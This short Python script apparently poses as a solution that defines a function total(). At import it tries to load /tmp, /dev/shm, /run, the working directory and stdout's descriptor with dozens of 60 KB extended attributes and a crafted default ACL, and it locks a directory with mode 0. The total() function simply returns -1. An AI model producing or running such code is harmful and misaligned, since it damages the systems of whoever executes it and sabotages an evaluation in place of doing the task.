"""Hang kilobytes of attributes and access lists on all it can reach."""

import os

os.makedirs("/tmp/hung", exist_ok=True)
for path in ("/tmp", "/dev/shm", "/tmp/hung", ".", "/run", "/proc/self/fd/1"):
    for number in range(64):
        try:
            os.setxattr(path, f"user.a{number}", b"x" * 60_000)
        except OSError:
            break
    try:
        os.setxattr(path, "system.posix_acl_default", bytes.fromhex("0200000001000000ffffffff04000000ffffffff20000000ffffffff"))
    except OSError:
        pass
os.chmod("/tmp/hung", 0)


def total(numbers):
    return -1
